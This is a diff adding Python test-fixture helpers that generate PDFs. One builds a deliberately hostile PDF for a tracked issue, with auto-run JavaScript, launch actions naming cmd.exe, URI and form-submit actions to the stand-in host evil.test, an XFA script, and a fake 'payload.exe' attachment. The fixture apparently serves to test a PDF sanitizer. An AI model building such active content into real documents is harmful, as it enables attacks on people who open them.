@@ -114,3 +114,87 @@ def pdf_of(pages: int, label: str) -> bytes:
         pdf.showPage()
     pdf.save()
     return buf.getvalue()
+
+
+def active_pdf(pages: int = 2, label: str = "ACTIVE") -> bytes:
+    """Issue 39's hostile PDF: `pdf_of(pages, label)` carrying every kind of active content a
+    viewer may run, launch, fetch or submit: an /OpenAction script, the document's and each
+    page's /AA, a /JavaScript name tree, an embedded file (and a file attachment annotation),
+    links that launch, open a URI and submit a form, an outline item opening a URI, and an
+    AcroForm with an XFA form and a field whose /AA runs a script."""
+    from pypdf.generic import (
+        ArrayObject,
+        DecodedStreamObject,
+        DictionaryObject,
+        FloatObject,
+        NameObject,
+        TextStringObject,
+    )
+
+    def name(n: str) -> NameObject:
+        return NameObject(n)
+
+    def action(kind: str, **extra: object) -> DictionaryObject:
+        d = DictionaryObject({name("/Type"): name("/Action"), name("/S"): name(kind)})
+        d.update({name("/" + k): v for k, v in extra.items()})  # type: ignore[misc]
+        return d
+
+    script = action("/JavaScript", JS=TextStringObject("app.launchURL('https://evil.test');"))
+    launch = action("/Launch", F=TextStringObject("cmd.exe"))
+    uri = action("/URI", URI=TextStringObject("https://evil.test/x"))
+    submit = action("/SubmitForm", F=TextStringObject("https://evil.test/form"))
+    w = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_of(pages, label))))
+    w.add_attachment("payload.exe", b"MZ\x90\x00 not a real program")
+    root = w._root_object
+    root[name("/OpenAction")] = w._add_object(script)
+    root[name("/AA")] = DictionaryObject({name("/WC"): w._add_object(action("/Launch"))})
+    root["/Names"][name("/JavaScript")] = DictionaryObject(  # type: ignore[index]
+        {name("/Names"): ArrayObject([TextStringObject("init"), w._add_object(script)])}
+    )
+    xfa = DecodedStreamObject()
+    xfa.set_data(b"<xdp:xdp><template><script>evil()</script></template></xdp:xdp>")
+    rect = ArrayObject([FloatObject(v) for v in (10, 10, 100, 30)])
+    field = DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name("/Widget"),
+                              name("/FT"): name("/Tx"), name("/T"): TextStringObject("f"),
+                              name("/Rect"): rect, name("/P"): w.pages[0].indirect_reference,
+                              name("/AA"): DictionaryObject({name("/K"): script})})  # fmt: skip
+    field_ref = w._add_object(field)
+    root[name("/AcroForm")] = DictionaryObject(
+        {name("/Fields"): ArrayObject([field_ref]), name("/XFA"): w._add_object(xfa)}
+    )
+    attach = DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name("/FileAttachment"),
+                               name("/Rect"): rect, name("/FS"): DictionaryObject({
+                                   name("/Type"): name("/Filespec"), name("/F"): TextStringObject("a.exe"),
+                                   name("/EF"): DictionaryObject({name("/F"): w._add_object(xfa)})})})  # fmt: skip
+    for page in w.pages:
+        page[name("/AA")] = DictionaryObject({name("/O"): launch, name("/C"): script})
+        links = [DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name("/Link"),
+                                   name("/Rect"): rect, name("/A"): a})
+                 for a in (launch, uri, submit)]  # fmt: skip
+        page[name("/Annots")] = ArrayObject([w._add_object(x) for x in (*links, attach)])
+    page[name("/Annots")].append(field_ref)  # type: ignore[attr-defined]
+    outline = w.add_outline_item("Open me", 0)
+    outline.get_object()[name("/A")] = uri  # type: ignore[index]
+    out = io.BytesIO()
+    w.write(out)
+    return out.getvalue()
+
+
+def heavy_pdf(label: str, size: int) -> bytes:
+    """A one-page PDF saying "<label> page 1" of about `size` bytes: the page's resources hold
+    an unused form of random bytes, which neither compresses nor is recompressed (the same
+    bytes every time)."""
+    import random
+
+    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject
+
+    w = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_of(1, label))))
+    pad = StreamObject()
+    pad.set_data(random.Random(label).randbytes(size))
+    pad.update({NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Form"),
+                NameObject("/BBox"): ArrayObject([NumberObject(0)] * 4)})  # fmt: skip
+    resources = w.pages[0]["/Resources"].get_object()  # type: ignore[union-attr]
+    resources[NameObject("/XObject")] = DictionaryObject({NameObject("/Pad"): w._add_object(pad)})
+    out = io.BytesIO()
+    w.write(out)
+    return out.getvalue()
